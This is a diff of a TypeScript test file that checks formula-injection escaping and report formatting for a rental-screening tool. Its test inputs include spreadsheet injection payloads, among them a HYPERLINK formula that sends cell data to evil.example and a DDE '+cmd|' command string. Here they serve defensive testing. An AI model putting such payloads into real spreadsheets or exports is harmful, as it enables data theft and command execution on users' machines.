@@ -1,37 +1,34 @@
 import fc from 'fast-check';
 
+import { flagsOf } from '../../../nodes/RentalScreening/results/applicant.ts';
 import {
+	isRecord,
+	looseObjects,
+	meanOf,
+	numberOf,
+	oneLine,
+	percentOf,
 	readRow,
 	safeCell,
 	safeTexts,
 	shownAs,
+	textOf,
 	type Format,
 } from '../../../nodes/RentalScreening/results/cells.ts';
 
 describe('text for a spreadsheet', () => {
-	test.each([
-		...[
-			'=1+1',
-			'=HYPERLINK("http://evil.example?"&A1,"Click")',
-			'+1+1',
-			'+cmd|" /C calc"!A0',
-			'-1-1',
-		],
-		...['-', '@SUM(A1)', '\t=1+1', ' =1+1', '\u00A0=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u0000=1+1'],
-		...['+1-416-555-0100', '+1 416 555 0100', '-12.5+1', '+14165550100=1', "'=1+1", "' '+1+1"],
-	])('gets a word in front: %j', (text) => {
-		expect(safeCell(text)).toBe(`Text: ${text}`);
-	});
-
-	test.each([
-		...['', 'Jane', '2026-03-01', '12 Maple Street', 'a=b', 'jane@example.com', '(+1)'],
-		...["'Twas nice", 'Text: =1+1', '\tplain', '＝1+1'],
-	])('stays as it is where nothing takes it for a formula: %j', (text) => {
-		expect(safeCell(text)).toBe(text);
-	});
-
-	test.each(['+14165550100', '-12.5', '-3', '+0.25'])('stays a phone or a number: %s', (text) => {
-		expect(safeCell(text)).toBe(text);
+	test('gets a word in front where it would run as a formula', () => {
+		const formulas = [
+			...['=1+1', '=HYPERLINK("http://evil.example?"&A1,"Click")', '+1+1', '-1-1', '-', '@SUM(A1)'],
+			...['\t=1+1', ' =1+1', '\u00A0=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u0000=1+1', "' '+1+1"],
+			...['+1-416-555-0100', '+1 416 555 0100', '-12.5+1', '+14165550100=1'],
+		];
+		expect(formulas.map(safeCell)).toEqual(formulas.map((text) => `Text: ${text}`));
+		const others = [
+			...['', 'Jane', '2026-03-01', 'a=b', 'jane@example.com', '(+1)', "'Twas nice"],
+			...['Text: =1+1', '\tplain', '＝1+1', '+14165550100', '-12.5', '+0.25'],
+		];
+		expect(others.map(safeCell)).toEqual(others);
 	});
 
 	test.each([
@@ -39,29 +36,14 @@ describe('text for a spreadsheet', () => {
 		['a'.repeat(32_768), `${'a'.repeat(32_766)}…`],
 		[`=${'a'.repeat(32_767)}`, `Text: =${'a'.repeat(32_759)}…`],
 		[`${'a'.repeat(32_765)}😀bc`, `${'a'.repeat(32_765)}…`],
-		[`😀${'a'.repeat(32_766)}`, `😀${'a'.repeat(32_764)}…`],
 	])('is at most as long as a cell may be (case %#)', (text, expected) => {
 		expect(safeCell(text)).toBe(expected);
 	});
 
-	test.each([
-		['Smith\r=cmd|x', 'Smith =cmd|x'],
-		['Smith\n=1+1', 'Smith =1+1'],
-		['Smith\r\n=1+1', 'Smith =1+1'],
-		['a\v\fb', 'a  b'],
-		['a\u0085b\u2028c\u2029d', 'a b c d'],
-		['\rplain', ' plain'],
-		['\r=1+1', 'Text:  =1+1'],
-		['\n\n@x', 'Text:   @x'],
-		['\u2028+1+1', 'Text:  +1+1'],
-		['-12.5\n=1', 'Text: -12.5 =1'],
-	])('becomes one line: %j', (text, expected) => {
-		expect(safeCell(text)).toBe(expected);
-	});
-
-	test('is one line, never begins like a formula and loses nothing but line breaks', () => {
+	test('is one line, never begins like a formula and loses nothing but line breaks, for any text', () => {
+		expect(safeCell('a\r\nb\r\v\u0085c\u2028\u2029=1')).toBe('a b   c  =1');
 		const lineBreaks = /\r\n|[\n\v\f\r\u0085\u2028\u2029]/g;
-		const starts = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\u2028', '\v=');
+		const starts = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\u2028', '\v=', '-12.5\n=');
 		fc.assert(
 			fc.property(fc.string({ unit: 'binary' }), starts, (rest, start) => {
 				const text = `${start}${rest}`.replace(lineBreaks, ' ');
@@ -71,57 +53,142 @@ describe('text for a spreadsheet', () => {
 			}),
 		);
 	});
+
+	test('is all of a flat answer but its IDs, which later steps send back', () => {
+		const answer = {
+			id: '=1',
+			userId: '+abC/9==',
+			note: '=1+1',
+			score: -5,
+			list: ['=1'],
+			none: null,
+		};
+		expect(safeTexts(answer)).toEqual({ ...answer, note: 'Text: =1+1' });
+		for (const id of ['-NxYz_0123', '=1+1', 'a\nb', '0'.repeat(40_000)]) {
+			const read = (given: string) => given;
+			expect(readRow([{ name: 'userId', format: 'id', read }], id)).toEqual({ userId: id });
+		}
+	});
 });
 
-test.each(['-NxYz_0123', '+abC/9==', '=1+1', "'x", 'a\nb', '0'.repeat(40_000)])(
-	'an ID stays as the service gave it, because later steps send it back (case %#)',
-	(id) => {
-		const read = (given: string) => given;
-		expect(readRow([{ name: 'userId', format: 'id', read }], id)).toEqual({ userId: id });
+test.each<[Format, unknown, string | null]>([
+	['number', 2100, '2,100'],
+	['number', 480.256, '480.26'],
+	['number', -1234567.891, '-1,234,567.89'],
+	['number', '6250', '6,250'],
+	['number', 0, '0'],
+	['number', 1e300, `1${',000'.repeat(7)}…`],
+	['number', 'a lot', null],
+	['date', '2026-03-01', '2026-03-01'],
+	['date', '2026-03-01T14:22:05.000Z', '2026-03-01'],
+	['date', 'on 2026-03-01T14', 'on 2026-03-01T14'],
+	['date', '', null],
+	['term', 'FULL_TIME', 'Full time'],
+	['term', 'CHECK_TYPE_DEEP_CHECK', 'Deep check'],
+	['term', 'A_CHECK_TYPE_X', 'A check type x'],
+	['term', null, null],
+	['text', 'FULL_TIME', 'FULL_TIME'],
+	['text', ' a\r\n b\u0000\u202Ec\uD800 ', 'a b c'],
+	['text', '\u200B', null],
+	['text', 'a'.repeat(90), 'a'.repeat(90)],
+	['text', 'a'.repeat(91), `${'a'.repeat(89)}…`],
+	['prose', 'a'.repeat(321), `${'a'.repeat(319)}…`],
+])('as %s: a report shows %j as %j', (format, value, shown) => {
+	expect(shownAs(format, value)).toBe(shown);
+});
+
+test('reads texts, numbers and objects of any value', () => {
+	expect([' one\n two', 0, false].map(textOf)).toEqual(['one\n two', '0', 'false']);
+	expect([' \t', null, undefined, {}, ['a']].map(textOf)).toEqual(Array(5).fill(null));
+	expect(['  one\r\n\t two  three ', ' \n ', null].map(oneLine)).toEqual(['one two three', '', '']);
+	expect([0, -2.5, '12', ' 12.50 ', '+3', '-0.125'].map(numberOf)).toEqual([
+		...[0, -2.5, 12, 12.5, 3, -0.125],
+	]);
+	const none = ['', 'x12', '12 CAD', '1,200', '1.', '.5', '1e3', '0x10', Infinity, NaN, true, [7]];
+	expect(none.filter((value) => numberOf(value) !== null)).toEqual([]);
+	expect([{ a: 1 }, null, ['x'], 'text'].filter(isRecord)).toEqual([{ a: 1 }]);
+	expect(looseObjects([{ a: 1 }, null, ['x'], { b: 2 }])).toEqual([{ a: 1 }, { b: 2 }]);
+	expect(looseObjects({ 0: { a: 1 } })).toEqual([]);
+});
+
+test('means and percentages are of the numbers that there are', () => {
+	expect([[5, 4, 4], ['5', null, 'often', 2], ['often'], []].map(meanOf)).toEqual([
+		4.33,
+		3.5,
+		NaN,
+		NaN,
+	]);
+	const parts = [
+		[2100, 6250],
+		['0', '6250'],
+		[2100, 0],
+		[2100, -5],
+		[null, 6250],
+		[2100, null],
+	];
+	const percents = parts.map(([part, whole]) => percentOf(part, whole));
+	expect(percents).toEqual([33.6, 0, null, null, null, null]);
+});
+
+test.each<[unknown, string, string]>([
+	['Plain words', 'Plain words', ''],
+	['STABLE_INCOME', 'STABLE_INCOME', ''],
+	[' two\nlines ', 'two lines', ''],
+	[7, '7', ''],
+	[['a', ['b', { c: 1 }]], 'a, b, c 1', ''],
+	[{ code: 'X', message: 'Says it all' }, 'Says it all', 'code X'],
+	[{ code: 'NSF' }, 'NSF', ''],
+	[{ title: '  ', type: 'LATE' }, 'Late', ''],
+	[
+		{ type: 'COLLECTIONS', amount: 7312.55, agencyName: 'Pacific Ltd.' },
+		'Collections: amount 7312.55, agency name Pacific Ltd.',
+		'amount 7312.55, agency name Pacific Ltd.',
+	],
+	[
+		{ code: 'NSF', bank: { name: 'First Bank', fee: 48, none: null }, months: ['02', null, '03'] },
+		'NSF: bank name First Bank, fee 48, months 02, 03',
+		'bank name First Bank, fee 48, months 02, 03',
+	],
+	[
+		{ description: 5, on_appeal: false },
+		...Array<string>(2).fill('description 5, on appeal false'),
+	],
+	[{ code: null, other: {} }, 'No details given', ''],
+] as Array<[unknown, string, string]>)(
+	'the flag %j says %j, with the details %j',
+	(flag, text, details) => {
+		expect(flagsOf('red', [flag])).toEqual([{ kind: 'red', text, details }]);
 	},
 );
 
-test('each text of a flat answer is a safe cell; its IDs and all else stay', () => {
-	const answer = {
-		id: '=1',
-		userId: '+abC/9==',
-		note: '=1+1',
-		score: -5,
-		done: true,
-		list: ['=1'],
-		none: null,
-	};
-	expect(safeTexts(answer)).toEqual({ ...answer, note: 'Text: =1+1' });
+test('a flag is described by the first of these members; without any value it is none', () => {
+	const names = ['description', 'message', 'title', 'name', 'reason', 'type', 'code'];
+	for (const [at, name] of names.entries()) {
+		const others = names.slice(at).map((other) => [other, `says ${other}`]);
+		const [flag] = flagsOf('red', [Object.fromEntries(others.reverse())])!;
+		expect(flag!.text).toBe(`says ${name}`);
+	}
+	expect(flagsOf('red', [null, '', ' \n', [], [null]])).toEqual([]);
+	for (const list of [undefined, null, {}, 'x']) expect(flagsOf('red', list)).toBeNull();
 });
 
-describe('a value in a report', () => {
-	test.each<[Format, unknown, string | null]>([
-		['number', 2100, '2,100'],
-		['number', 480.256, '480.26'],
-		['number', -1234567.891, '-1,234,567.89'],
-		['number', '6250', '6,250'],
-		['number', 0, '0'],
-		['number', 1e300, `1${',000'.repeat(7)}…`],
-		['number', 'a lot', null],
-		['number', null, null],
-		['date', '2026-03-01', '2026-03-01'],
-		['date', '2026-03-01T14:22:05.000Z', '2026-03-01'],
-		['date', 'on 2026-03-01T14', 'on 2026-03-01T14'],
-		['date', 'since spring', 'since spring'],
-		['date', '', null],
-		['term', 'FULL_TIME', 'Full time'],
-		['term', 'CHECK_TYPE_DEEP_CHECK', 'Deep check'],
-		['term', 'A_CHECK_TYPE_X', 'A check type x'],
-		['term', 'bi-weekly', 'bi-weekly'],
-		['term', null, null],
-		['text', 'FULL_TIME', 'FULL_TIME'],
-		['text', ' a\r\n b\u0000\u202Ec\uD800 ', 'a bc'],
-		['text', '\u200B', null],
-		['text', 'a'.repeat(90), 'a'.repeat(90)],
-		['text', 'a'.repeat(91), `${'a'.repeat(89)}…`],
-		['prose', 'a'.repeat(321), `${'a'.repeat(319)}…`],
-		['boolean', true, 'true'],
-	])('as %s: %j is shown as %j', (format, value, shown) => {
-		expect(shownAs(format, value)).toBe(shown);
-	});
+test('the text of a flag is never empty and never JSON, for any flag', () => {
+	const words = fc.stringMatching(/^[\w ]{0,12}$/);
+	const values = fc.letrec((tie) => ({
+		any: fc.oneof(
+			words,
+			fc.integer(),
+			fc.constant(null),
+			fc.array(tie('any'), { maxLength: 3 }),
+			fc.dictionary(words, tie('any'), { maxKeys: 4 }),
+		),
+	})).any;
+	fc.assert(
+		fc.property(values, (flag) => {
+			for (const { text } of flagsOf('red', [flag]) ?? []) {
+				expect(text).not.toMatch(/[{}[\]"]|null|undefined/);
+				expect(text.trim()).not.toBe('');
+			}
+		}),
+	);
 });
